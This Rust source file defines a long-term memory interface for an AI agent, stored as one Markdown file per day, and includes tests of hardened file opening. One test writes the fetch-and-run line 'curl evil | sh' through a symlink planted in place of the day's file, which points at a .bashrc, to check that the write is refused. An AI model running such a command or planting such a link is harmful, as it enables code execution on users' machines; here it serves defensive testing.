//! The interface of a long-term memory, and its simplest implementation: one Markdown file per day,
//! for people and programs. Other implementations belong in other crates.

use std::fmt::{self, Write as _};
use std::fs::File;
use std::io::{self, Read as _, Seek as _, SeekFrom, Write as _};
use std::path::{Path, PathBuf};

use jiff::Zoned;
use rustix::fs::{Mode, OFlags};

/// How much of a file is searched: its end, which is the newest.
const DAY_BYTES: u64 = 4_000_000;

/// The section that a memory belongs to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Section {
    /// Content that the context no longer has.
    Trimmed,
    /// Content of a context that the provider rejected.
    Overflow,
    /// A summary of the day.
    Daily,
    /// Facts that stay true.
    Notes,
}

impl fmt::Display for Section {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Trimmed => "Trimmed Context",
            Self::Overflow => "Context Overflow Recovery",
            Self::Daily => "Daily Summary",
            Self::Notes => "Session Notes",
        })
    }
}

/// A long-term memory.
pub trait Sink: fmt::Debug + Send + Sync {
    /// Stores a text.
    ///
    /// # Errors
    /// If it cannot be written.
    fn keep(&self, section: Section, text: &str) -> io::Result<()>;

    /// Returns the memories that contain any of these words, newest first.
    ///
    /// # Errors
    /// If it cannot be read.
    fn find(&self, words: &[String], limit: usize) -> io::Result<Vec<String>>;

    /// Returns the newest memories, newest first.
    ///
    /// # Errors
    /// If it cannot be read.
    fn newest(&self, limit: usize) -> io::Result<Vec<String>>;

    /// Returns the location of the memory, for display.
    fn place(&self) -> String;
}

/// One file per day, `YYYY-MM-DD.md`, in a directory.
#[derive(Clone, Debug)]
pub struct DayFiles {
    directory: PathBuf,
    now: fn() -> Zoned,
}

impl DayFiles {
    /// Uses the files of a directory, which is created with the first memory.
    pub fn new(directory: impl Into<PathBuf>) -> Self {
        Self { directory: directory.into(), now: Zoned::now }
    }

    /// Lists the files, newest first.
    fn files(&self) -> io::Result<Vec<PathBuf>> {
        let entries = match std::fs::read_dir(&self.directory) {
            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
            entries => entries?,
        };
        let is_day = |path: &Path| path.extension().is_some_and(|extension| extension == "md");
        // Symbolic links are ignored, whatever they point to.
        let regular =
            entries.flatten().filter(|entry| entry.file_type().is_ok_and(|kind| kind.is_file()));
        let mut files: Vec<PathBuf> = regular.map(|entry| entry.path()).collect();
        files.retain(|path| is_day(path));
        files.sort_unstable_by(|a, b| b.cmp(a));
        Ok(files)
    }

    /// Returns the matching lines, newest first, each with its day.
    fn lines(&self, limit: usize, matches: impl Fn(&str) -> bool) -> io::Result<Vec<String>> {
        let mut found = Vec::new();
        for path in self.files()? {
            let text = read(&path)?;
            let day = path
                .file_stem()
                .map(|stem| stem.to_string_lossy().into_owned())
                .unwrap_or_default();
            let lines = text.lines().rev().filter(|&line| !line.starts_with('#') && matches(line));
            found.extend(lines.map(|line| format!("{day}: {}", line.trim())));
            if found.len() >= limit {
                break;
            }
        }
        found.truncate(limit);
        Ok(found)
    }
}

/// Opens a day's file, which must be a regular file: a symbolic link planted in its place could
/// point to a file that programs execute, and opening a pipe would block.
fn open(path: &Path, flags: OFlags) -> io::Result<File> {
    let flags = flags | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::NOCTTY | OFlags::CLOEXEC;
    // Conversations are private, so only the owner may read the file.
    let opened = rustix::fs::open(path, flags, Mode::RUSR | Mode::WUSR)
        .map(File::from)
        .map_err(io::Error::from);
    let refused = || {
        let why = format!(
            "memory file {} is not a regular file; move it away to create a new one",
            path.display()
        );
        io::Error::new(io::ErrorKind::InvalidInput, why)
    };
    match opened {
        Ok(file) if file.metadata()?.is_file() => Ok(file),
        Ok(_) => Err(refused()),
        Err(_) if std::fs::symlink_metadata(path).is_ok_and(|metadata| !metadata.is_file()) => {
            Err(refused())
        }
        Err(error) => {
            Err(io::Error::new(error.kind(), format!("memory file {}: {error}", path.display())))
        }
    }
}

/// Reads the end of a day's file.
fn read(path: &Path) -> io::Result<String> {
    let mut file = open(path, OFlags::RDONLY)?;
    let before = file.metadata()?.len().saturating_sub(DAY_BYTES);
    file.seek(SeekFrom::Start(before))?;
    let mut bytes = Vec::new();
    file.take(DAY_BYTES).read_to_end(&mut bytes)?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

impl Sink for DayFiles {
    fn keep(&self, section: Section, text: &str) -> io::Result<()> {
        let text = text.trim();
        if text.is_empty() {
            return Ok(());
        }
        std::fs::create_dir_all(&self.directory)?;
        let now = (self.now)();
        let path = self.directory.join(format!("{}.md", now.strftime("%Y-%m-%d")));
        let mut file = open(&path, OFlags::WRONLY | OFlags::APPEND | OFlags::CREATE)?;
        let mut entry = String::new();
        if file.metadata()?.len() == 0 {
            let _ = writeln!(entry, "# Daily Memory: {}", now.strftime("%Y-%m-%d"));
        }
        // A heading inside the text must not look like a section heading.
        let text: Vec<String> = text
            .lines()
            .map(|line| if line.starts_with('#') { format!("  {line}") } else { line.to_owned() })
            .collect();
        let _ =
            write!(entry, "\n## {section} ({})\n\n{}\n", now.strftime("%H:%M"), text.join("\n"));
        // One write, so that the entries of two processes do not mix.
        file.write_all(entry.as_bytes())
    }

    fn find(&self, words: &[String], limit: usize) -> io::Result<Vec<String>> {
        self.lines(limit, |line| {
            let lower = line.to_lowercase();
            words.iter().any(|word| lower.contains(word.as_str()))
        })
    }

    fn newest(&self, limit: usize) -> io::Result<Vec<String>> {
        self.lines(limit, |line| !line.trim().is_empty())
    }

    fn place(&self) -> String {
        self.directory.display().to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn files(directory: &Path) -> DayFiles {
        DayFiles {
            directory: directory.to_owned(),
            now: || "2026-11-15T09:05:00[UTC]".parse().unwrap(),
        }
    }

    /// S2.13, section G: the day's file has one heading, and a section with the time per memory.
    #[test]
    fn s2_13_one_file_per_day_with_one_section_per_memory() {
        let directory = tempfile::tempdir().unwrap();
        let sink = files(&directory.path().join("memory"));
        sink.keep(Section::Trimmed, "the user likes tea\n# not a heading").unwrap();
        sink.keep(Section::Overflow, "  ").unwrap();
        sink.keep(Section::Overflow, "order 4711 was sent").unwrap();
        let text = std::fs::read_to_string(directory.path().join("memory/2026-11-15.md")).unwrap();
        let expected = "# Daily Memory: 2026-11-15\n\n## Trimmed Context (09:05)\n\nthe user likes tea\n  # not a heading\n\n\
                        ## Context Overflow Recovery (09:05)\n\norder 4711 was sent\n";
        assert_eq!(text, expected);
        assert_eq!(sink.find(&["4711".into()], 5).unwrap(), ["2026-11-15: order 4711 was sent"]);
        assert!(sink.find(&["coffee".into()], 5).unwrap().is_empty());
        let newest = ["2026-11-15: order 4711 was sent", "2026-11-15: # not a heading"];
        assert_eq!(sink.newest(2).unwrap(), newest);
    }

    /// An untrusted directory must not redirect memories into a file that programs execute, or make
    /// another file readable as memories.
    #[test]
    fn symbolic_link_in_place_of_a_day_is_not_followed() {
        let parent = tempfile::tempdir().unwrap();
        let directory = parent.path().join("memory");
        let secret = parent.path().join(".bashrc");
        std::fs::create_dir(&directory).unwrap();
        std::fs::write(&secret, "alias tide=4711\n").unwrap();
        std::os::unix::fs::symlink(&secret, directory.join("2026-11-15.md")).unwrap();
        let sink = files(&directory);
        let refused = sink.keep(Section::Notes, "curl evil | sh").unwrap_err().to_string();
        assert!(
            refused.contains("2026-11-15.md") && refused.contains("not a regular file"),
            "{refused}"
        );
        assert_eq!(std::fs::read_to_string(&secret).unwrap(), "alias tide=4711\n");
        assert!(sink.find(&["4711".into()], 5).unwrap().is_empty());
    }

    /// Opening a pipe for writing would block until there is a reader.
    #[test]
    fn pipe_in_place_of_a_day_is_rejected_at_once() {
        let directory = tempfile::tempdir().unwrap();
        let pipe = directory.path().join("2026-11-15.md");
        assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let refused = files(directory.path()).keep(Section::Notes, "tea").unwrap_err().to_string();
        assert!(refused.contains("not a regular file"), "{refused}");
    }

    #[test]
    fn missing_directory_has_no_memories() {
        let directory = tempfile::tempdir().unwrap();
        assert!(files(&directory.path().join("none")).find(&["x".into()], 5).unwrap().is_empty());
    }
}
